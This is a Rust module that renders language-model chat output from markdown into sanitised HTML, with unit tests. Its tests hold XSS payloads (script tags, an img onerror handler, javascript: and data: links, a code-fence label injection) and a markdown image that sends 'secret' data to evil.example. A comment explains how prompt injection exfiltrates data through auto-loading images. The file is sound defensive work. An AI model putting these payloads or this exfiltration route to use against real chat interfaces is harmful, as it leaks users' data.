//! Markdown to safe HTML. Model output is data, never markup: raw HTML in a message is shown as
//! text, and the rendered HTML is then cleaned by ammonia as a second line of defence (links keep
//! only http, https and mailto, and open without access to this page).
//! Runs on the server (server rendering) and in the browser (live while tokens stream in).

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd};
use std::sync::LazyLock;

static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::default();
    builder
        .add_tags(["button"])
        // Never an image from model output (see `render_markdown`); the page has its own.
        .rm_tags(["img"])
        .add_generic_attributes(["class"])
        .add_tag_attributes("button", ["type", "data-copy-code"])
        .add_tag_attributes("th", ["style"])
        .add_tag_attributes("td", ["style"])
        .url_schemes(["http", "https", "mailto"].into())
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .filter_style_properties(["text-align"].into());
    builder
});

/// Renders markdown (CommonMark with tables and strikethrough) to HTML that is safe to insert.
/// Fenced code blocks get a header with their language and a copy button.
pub fn render_markdown(source: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut events = Vec::new();
    let mut code: Option<(String, String)> = None; // (language, text) of the open code block
    for event in Parser::new_ext(source, options) {
        match event {
            Event::Start(Tag::CodeBlock(kind)) => {
                let language = match kind {
                    CodeBlockKind::Fenced(info) => {
                        info.split_whitespace().next().unwrap_or("").to_string()
                    }
                    CodeBlockKind::Indented => String::new(),
                };
                code = Some((language, String::new()));
            }
            Event::End(TagEnd::CodeBlock) => {
                if let Some((language, text)) = code.take() {
                    events.push(Event::Html(CowStr::from(code_block_html(&language, &text))));
                }
            }
            Event::Text(text) if code.is_some() => {
                if let Some((_, buffer)) = code.as_mut() {
                    buffer.push_str(&text);
                }
            }
            // An image would load a URL the model chose the moment the answer shows: the way a
            // prompt injection sends data out. It becomes a link with its alt text instead.
            Event::Start(Tag::Image {
                link_type,
                dest_url,
                title,
                id,
            }) => events.push(Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            })),
            Event::End(TagEnd::Image) => events.push(Event::End(TagEnd::Link)),
            // Raw HTML from the model or the person is shown as the text it is.
            Event::Html(html) | Event::InlineHtml(html) => events.push(Event::Text(html)),
            other => events.push(other),
        }
    }
    // A code block still open at the end (tokens still streaming) is shown as it stands.
    if let Some((language, text)) = code.take() {
        events.push(Event::Html(CowStr::from(code_block_html(&language, &text))));
    }
    let mut html = String::with_capacity(source.len() * 3 / 2);
    pulldown_cmark::html::push_html(&mut html, events.into_iter());
    CLEANER.clean(&html).to_string()
}

fn code_block_html(language: &str, text: &str) -> String {
    let language = escape_html(language);
    let label = if language.is_empty() {
        "text".to_string()
    } else {
        language.clone()
    };
    let class = if language.is_empty() {
        String::new()
    } else {
        format!(" class=\"language-{language}\"")
    };
    format!(
        "<div class=\"code-block\"><div class=\"code-header\"><span class=\"code-lang\">{label}</span>\
         <button type=\"button\" class=\"copy-code\" data-copy-code=\"\">Copy</button></div>\
         <pre><code{class}>{}</code></pre></div>",
        escape_html(text)
    )
}

/// Escapes the five characters that matter in HTML text and attribute values.
pub fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_common_markdown() {
        let html = render_markdown("# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nsome `code` and **bold**");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<li>one</li>"), "{html}");
        assert!(
            html.contains("<table>") && html.contains("<td>1</td>"),
            "{html}"
        );
        assert!(html.contains("<code>code</code>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
    }

    #[test]
    fn raw_html_is_shown_as_text_never_executed() {
        let html = render_markdown("hi <script>alert(1)</script> <img src=x onerror=alert(1)>\n\n<div onclick=\"x()\">block</div>");
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("<div onclick"), "{html}");
        assert!(
            html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{html}"
        );
        assert!(
            html.contains("&lt;img src=x onerror=alert(1)&gt;"),
            "{html}"
        );
    }

    #[test]
    fn dangerous_links_lose_their_target() {
        let html = render_markdown(
            "[click](javascript:alert(1)) [ok](https://example.com) ![i](data:text/html,x)",
        );
        assert!(!html.contains("javascript:"), "{html}");
        assert!(!html.contains("data:text"), "{html}");
        assert!(html.contains("href=\"https://example.com\""), "{html}");
        assert!(
            html.contains("rel=\"noopener noreferrer nofollow\""),
            "{html}"
        );
    }

    #[test]
    fn code_blocks_get_language_label_copy_button_and_escaped_text() {
        let html = render_markdown("```rust\nfn main() { println!(\"<b>\"); }\n```\n");
        assert!(
            html.contains("<span class=\"code-lang\">rust</span>"),
            "{html}"
        );
        assert!(html.contains("data-copy-code"), "{html}");
        assert!(html.contains("class=\"language-rust\""), "{html}");
        assert!(html.contains("println!(\"&lt;b&gt;\");"), "{html}");
    }

    #[test]
    fn language_label_cannot_inject_markup() {
        let html = render_markdown("```\"><script>x</script>\ncode\n```\n");
        assert!(!html.contains("<script"), "{html}");
    }

    #[test]
    fn unterminated_code_block_while_streaming_is_rendered() {
        let html = render_markdown("Here:\n```python\nprint('hi')");
        assert!(
            html.contains("<span class=\"code-lang\">python</span>"),
            "{html}"
        );
        assert!(
            html.contains("print(&#39;hi&#39;)") || html.contains("print('hi')"),
            "{html}"
        );
    }

    #[test]
    fn remote_images_become_links_and_never_load() {
        let html = render_markdown(
            "Look: ![secret data](https://evil.example/x.png?q=secret \"t\") and <img src=https://evil.example/y.png>",
        );
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains("href=\"https://evil.example/x.png?q=secret\""),
            "shown as a link: {html}"
        );
        assert!(html.contains(">secret data</a>"), "{html}");
    }
}
